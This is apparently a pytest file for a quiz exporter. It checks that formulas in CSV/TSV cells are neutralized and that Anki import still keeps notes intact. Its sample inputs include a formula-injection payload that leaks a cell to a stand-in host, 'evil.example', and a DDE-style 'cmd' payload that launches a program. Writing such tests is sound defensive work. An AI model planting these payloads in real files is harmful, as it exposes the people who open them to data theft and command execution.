"""Spreadsheet formulas in CSV/TSV cells are neutralized (OWASP), and Anki's own text import
still reads every field, deck and GUID as quizgen meant them."""

from __future__ import annotations

import csv
import dataclasses
import html
import io

import pytest

from quizgen.export import write_export
from quizgen.export.bank import render
from quizgen.export.notes import note_guid
from quizgen.models import QuestionBank

NOW = 1_700_000_000.0
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


def formula_bank(bank: QuestionBank) -> QuestionBank:
    """The sample bank with a question, an answer and a source sentence that open like formulas."""
    first, second, *rest = bank.questions
    first = dataclasses.replace(first, question=FORMULAS[0], answer=FORMULAS[1], aliases=(FORMULAS[2],))
    second = dataclasses.replace(second, source=FORMULAS[3] + " " + second.source)
    return dataclasses.replace(bank, questions=(first, second, *rest))


def cells(text: str, delimiter: str = ",") -> list[str]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
    return [cell for row in csv.reader(io.StringIO("".join(lines)), delimiter=delimiter) for cell in row]


def test_generate_csv_cells_never_start_a_formula(sample_bank):
    text = render(formula_bank(sample_bank), "csv")
    found = cells(text)
    assert not [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULAS[0] in found and "'" + FORMULAS[1] in found  # the text is kept, as text


@pytest.mark.parametrize(("name", "delimiter"), [("deck.csv", ","), ("deck.tsv", "\t")], ids=["csv", "tsv"])
def test_anki_text_export_is_inert_in_a_spreadsheet_and_right_in_anki(sample_bank, tmp_path, name, delimiter):
    anki_collection = pytest.importorskip("anki.collection")
    bank = formula_bank(sample_bank)
    path = write_export(bank, tmp_path / name, now=NOW).path
    text = path.read_text(encoding="utf-8")
    guids = {note_guid(q.id) for q in bank.questions}
    # GUIDs stay as they are (see quizgen.export.tabular); every other cell is inert.
    risky = [c for c in cells(text, delimiter) if c[:1] in ("=", "+", "-", "@") and c not in guids]
    assert risky == []

    col = anki_collection.Collection(str(tmp_path / "collection.anki2"))
    try:
        metadata = col.get_csv_metadata(path=str(path), delimiter=None)
        col.import_csv(anki_collection.ImportCsvRequest(path=str(path), metadata=metadata))
        notes = [col.get_note(nid) for nid in col.find_notes("")]
        assert {n.guid for n in notes} == guids  # same notes as the .apkg: updates, not twins
        by_guid = {n.guid: n for n in notes}
        first, second = bank.questions[0], bank.questions[1]
        shown = by_guid[note_guid(first.id)]
        # Anki shows the text as written, under the article's "From:" line
        assert html.unescape(shown["Front"]).endswith("</small><br>" + FORMULAS[0])
        assert html.unescape(shown["Back"]).startswith(f"<b>{FORMULAS[1]}</b>")
        assert FORMULAS[3] in html.unescape(by_guid[note_guid(second.id)]["Back"])
        assert {col.decks.name(n.cards()[0].did) for n in notes} == {"quizgen::Harbor bridge opens after <five> years"}
    finally:
        col.close()
